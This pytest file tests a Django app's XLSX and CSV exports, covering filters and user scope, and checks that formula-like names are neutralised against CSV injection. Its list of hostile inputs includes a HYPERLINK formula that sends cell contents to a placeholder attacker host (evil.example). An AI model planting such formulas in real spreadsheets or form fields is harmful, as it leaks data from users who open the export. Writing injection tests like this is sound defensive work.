import csv
import io

import openpyxl
import pytest

from tests.factories import MemberFactory

pytestmark = pytest.mark.django_db


def test_member_list_exports_xlsx_with_the_page_filters(login, users, group_a, group_b):
    MemberFactory(group=group_a, full_name="Yusnimar", code="A-1")
    MemberFactory(group=group_a, full_name="Asmawati", code="A-2")
    MemberFactory(group=group_b, full_name="Darmawati", code="B-1")
    response = login(users["manager"]).get("/members/", {"q": "wati", "export": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("Kode anggota", "Nama lengkap")
    assert sorted(r[1] for r in rows[1:]) == ["Asmawati", "Darmawati"]


def test_export_respects_scope(login, users, group_a, group_b):
    MemberFactory(group=group_b, full_name="Darmawati")
    response = login(users["pendamping1"]).get("/members/", {"export": "csv"})
    text = response.content.decode("utf-8-sig")
    assert "Darmawati" not in text
    assert list(csv.reader(io.StringIO(text)))[0][0] == "Kode anggota"


def test_group_list_exports_csv(login, users, group_a, group_b):
    response = login(users["pendamping2"]).get("/groups/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["Garuda Metro"]


# OWASP CSV injection: text from people must never come out of an export as a live formula.
HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "=1+1", "+62 812", "-2+3", "@SUM(A1:A9)",
                 "\tTab", "\rCR"]


@pytest.fixture
def hostile_members(group_a):
    return [MemberFactory(group=group_a, full_name=name, nickname=name[:40], code=f"X-{i}")
            for i, name in enumerate(HOSTILE_NAMES)]


def _xlsx_cells(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("url", ["/members/", "/imports/export/members/"])
def test_xlsx_exports_write_formula_like_text_as_text(login, users, hostile_members, url):
    response = login(users["manager"]).get(url, {"export": "xlsx"})
    cells = _xlsx_cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE_NAMES) - {"\rCR"} <= texts  # unchanged, only no longer a formula
    if url == "/members/":  # (the data export writes every cell as text the import reads back)
        assert 15 in [c.value for c in cells if c.data_type == "n"]  # travel minutes stay a number


@pytest.mark.parametrize("url", ["/members/", "/imports/export/members/"])
def test_csv_exports_put_an_apostrophe_before_formula_like_text(login, users, hostile_members, url):
    response = login(users["manager"]).get(url, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells


def test_numbers_and_dates_stay_numbers_and_dates():
    from core.export import export_response

    response = export_response(headers=["a", "b", "c", "d"], rows=[[-5, 1_250_000, __import__("datetime").date(
        2024, 5, 13), "=x"]], filename="t", fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    a, b, c, d = sheet[2]
    assert (a.value, a.data_type, b.value, d.value, d.data_type) == (-5, "n", 1_250_000, "=x", "s")
    assert c.is_date
    csv_text = export_response(headers=["a"], rows=[[-5], ["-5"]], filename="t", fmt="csv").content.decode()
    assert csv_text.splitlines()[1:] == ["-5", "'-5"]


def test_an_exported_csv_with_a_neutralised_name_imports_back_unchanged():
    from imports.widgets import cell_text

    assert cell_text("'=1+1") == "=1+1"
    assert cell_text("'Ani") == "'Ani"  # an apostrophe that protects nothing stays
